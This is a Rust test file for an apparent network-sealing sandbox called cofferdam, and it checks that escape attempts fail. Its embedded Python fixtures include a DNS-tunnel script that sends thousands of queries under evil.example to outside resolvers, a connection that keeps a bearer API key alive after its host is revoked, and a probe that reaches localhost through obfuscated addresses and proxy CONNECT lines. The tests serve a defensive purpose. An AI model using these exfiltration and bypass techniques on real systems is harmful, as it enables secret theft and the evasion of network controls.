//! Ways to carry something out that a sealed network must close: names as messages, and connections that outlive what
//! allowed them.

use std::io::{BufRead, BufReader, Write};

use cofferdam_testkit::Cofferdam;

use crate::bed::{Bed, COFFERDAM, SECRET, Server, WITHOUT_PROXY, fixed};

/// A secret in pieces, as long as names can be, asked of name servers that are not ours, in packets and on a connection;
/// what comes back is counted by its code.
const TUNNEL: &str = r#"
import collections, os, socket, struct
def question(number):
    labels = [b'%05d' % number] + [os.urandom(30).hex().encode()] * 3 + [b'evil', b'example']
    name = b''.join(bytes([len(label)]) + label for label in labels) + b'\0'
    return struct.pack('>6H', number, 0x100, 1, 0, 0, 0) + name + struct.pack('>2H', 16 if number % 2 else 1, 1)
codes = collections.Counter()
packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
packets.settimeout(30)
for number in range(4000):
    packets.sendto(question(number), ('203.0.113.53', 53))
    codes[packets.recv(4096)[3] & 15] += 1
stream = socket.create_connection(('2001:db8::53', 53), timeout=30)
for number in range(4000, 4100):
    asked = question(number)
    stream.sendall(struct.pack('>H', len(asked)) + asked)
    length, = struct.unpack('>H', stream.recv(2, socket.MSG_WAITALL))
    codes[stream.recv(length, socket.MSG_WAITALL)[3] & 15] += 1
print(dict(codes))
"#;

/// A machine whose only name server writes down what it is asked.
const MACHINE: &str = r#"
ip link set lo up
mount --bind resolv.conf /etc/resolv.conf
python3 -I -c '
import socket
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 53))
print("ready", flush=True)
while True:
    asked, who = server.recvfrom(4096)
    open("asked", "ab").write(asked + b"\n")
    server.sendto(asked[:2] + b"\x81\x83" + asked[4:], who)
' > server &
server=$!
while ! grep -q ready server; do sleep 0.05; done
"$@"
status=$?
kill $server
exit $status
"#;

/// Runs a command on that machine, and tells what its name server was asked.
fn on_the_machine(bed: &Bed, command: &[&str]) -> (String, String, String) {
    bed.home.write("project/resolv.conf", "nameserver 127.0.0.1\noptions attempts:1 timeout:5\n");
    bed.home.write("project/asked", "");
    let words = ["--user", "--map-root-user", "--net", "--mount", "/bin/sh", "-c", MACHINE, "sh"];
    let machine = Cofferdam::new("/usr/bin/unshare", &bed.home).current_dir(&bed.home.path().join("project"));
    let run = machine.env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin").env("ACME_API_KEY", SECRET);
    let ended = run.args(words).args(command).run();
    let asked = std::fs::read(bed.home.path().join("project/asked")).expect("what was asked");
    (ended.stdout(), ended.stderr(), String::from_utf8_lossy(&asked).into_owned())
}

#[test]
fn req_i10_e34_a_tunnel_of_names_carries_nothing_out_and_does_not_flood_the_record() {
    let bed = Bed::new();
    let (_, told, asked) = on_the_machine(&bed, &["getent", "hosts", "twin.evil.example"]);
    assert!(asked.contains("twin"), "the machine's name server would have been asked: {told}");
    bed.home.write("project/tunnel.py", TUNNEL);
    let inside = ["run", "--", "/usr/bin/python3", "-I", "tunnel.py"];
    let (said, told, asked) = on_the_machine(&bed, &[&[COFFERDAM], &inside[..]].concat());
    assert_eq!(said, "{3: 4100}\n", "every name is one that does not exist: {told}");
    assert_eq!(asked, "", "nobody outside was asked");
    let record = bed.record();
    let names = record.matches("evil.example").count();
    assert!((1000..=2100).contains(&names), "{names} names are on record");
    assert_eq!(record.matches("names-too-many").count(), 1, "where the list of names ends is on record");
    assert_eq!(told.matches("more names of evil.example").count(), 1, "{told}");
    assert!(told.lines().count() < 10, "the person is not flooded either: {told}");
}

/// Asks once for every line that it reads, on one connection that is not opened again.
const HELD: &str = r#"
import http.client, os, sys
c = http.client.HTTPSConnection('api.example.test')
for line in sys.stdin:
    c.request('GET', '/v1', headers={'Authorization': 'Bearer ' + os.environ['ACME_API_KEY']})
    c.auto_open = 0
    r = c.getresponse()
    r.read()
    print(r.status, r.getheader('cofferdam-reason'), flush=True)
"#;

#[test]
fn req_e02_e29_a_connection_opened_before_a_host_was_taken_back_reaches_it_no_more() {
    let bed = Bed::served_by(Server::Daemon, "");
    bed.upstream.route("/v1", fixed("hello"));
    bed.home.write("project/held.py", HELD);
    let command = format!("{WITHOUT_PROXY} exec python3 -I held.py");
    let mut child = bed.run(&[], &["/bin/sh", "-c", &command]).spawn();
    let mut input = child.stdin.take().expect("a pipe");
    let mut output = BufReader::new(child.stdout.take().expect("a pipe"));
    let mut asks = || {
        input.write_all(b"ask\n").expect("it reads");
        let mut line = String::new();
        output.read_line(&mut line).expect("a line");
        line
    };
    assert_eq!(asks(), "200 None\n");
    assert_eq!(asks(), "200 None\n", "the connection is kept");
    let config = bed.home.read("cofferdam/config.toml");
    bed.home.write(
        "cofferdam/config.toml",
        config.replace("hosts = [\"api.example.test\"]", "hosts = [\"other.example.test\"]"),
    );
    bed.egress("reload").expect_status(0);
    assert_eq!(asks(), "403 host-not-allowed\n");
    assert_eq!(bed.upstream.requests().len(), 2, "the upstream was not asked again");
    bed.home.write("cofferdam/config.toml", config);
    bed.egress("reload").expect_status(0);
    assert_eq!(asks(), "200 None\n");
    drop(input);
    assert!(child.wait().expect("its end").success());
}

/// Knocks at the machine in every way that its addresses can be written, and prints what answers.
const KNOCK: &str = r#"
import socket, sys
port, name = int(sys.argv[1]), sys.argv[2]
def attempt(what, call):
    try:
        print(what, call())
    except OSError:
        print(what, 'closed')
def reached(family, address):
    def call():
        s = socket.socket(family)
        s.settimeout(30)
        s.connect(address)
        return 'open'
    return call
def asked(line):
    def call():
        s = socket.create_connection(('127.0.0.1', 919), timeout=30)
        s.sendall(line.encode() + b'\r\nHost: ' + line.split()[1].split('/')[-2 if '//' in line else -1].encode() + b'\r\n\r\n')
        return s.makefile().readline().split(' ')[1]
    return call
attempt('loopback', reached(socket.AF_INET, ('127.0.0.1', port)))
attempt('mapped', reached(socket.AF_INET6, ('::ffff:127.0.0.1', port)))
attempt('anywhere', reached(socket.AF_INET, ('0.0.0.0', port)))
attempt('abstract', reached(socket.AF_UNIX, '\0' + name))
attempt('hypervisor', lambda: socket.socket(40) and 'open')
for host in ['127.0.0.1', '[::1]', '[::ffff:127.0.0.1]', '0.0.0.0', 'localhost', '2130706433', '127.1']:
    attempt('tunnel ' + host, asked(f'CONNECT {host}:{port} HTTP/1.1'))
    attempt('request ' + host, asked(f'GET http://{host}:{port}/ HTTP/1.1'))
attempt('the proxy itself', asked('CONNECT 127.0.0.1:919 HTTP/1.1'))
"#;

#[test]
fn req_i10_e03_the_machine_is_not_reached_by_any_way_to_write_its_addresses() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener, UnixStream};
    let host = std::net::TcpListener::bind(("127.0.0.1", 0)).expect("a free port");
    let port = host.local_addr().expect("an address").port();
    let name = format!("cofferdam-test-{}", cofferdam_testkit::processes::marker());
    let abstract_name = SocketAddr::from_abstract_name(&name).expect("a name");
    let _local = UnixListener::bind_addr(&abstract_name).expect("a socket");
    std::net::TcpStream::connect(("127.0.0.1", port)).expect("out here it is reached");
    UnixStream::connect_addr(&abstract_name).expect("and so is the other");
    Bed::each(|bed| {
        bed.home.write("project/knock.py", KNOCK);
        let words = ["/usr/bin/python3", "-I", "knock.py", &port.to_string(), &name];
        let knock = |options: &[&str]| {
            let run = bed.run(options, &words).run().expect_status(0);
            let said = run.stdout();
            assert_eq!(said.lines().count(), 20, "{said}\n{}", run.stderr());
            assert!(!run.stderr().contains("lets the command reach it"), "no flag would: {}", run.stderr());
            said
        };
        let refused = |line: &str| [" closed", " 403", " 400"].iter().any(|end| line.ends_with(end));
        let said = knock(&[]);
        assert!(said.lines().all(refused), "{said}");
        // Even where somebody allows it: a listener of ours answers then, and lets no request through.
        let said = knock(&["--allow", &format!("127.0.0.1:{port}")]);
        assert!(said.lines().filter(|line| line.starts_with("request ")).all(refused), "{said}");
    });
    host.set_nonblocking(true).expect("a listener");
    assert!(host.accept().is_ok(), "the one from out here");
    assert!(host.accept().is_err(), "and nobody else came");
}
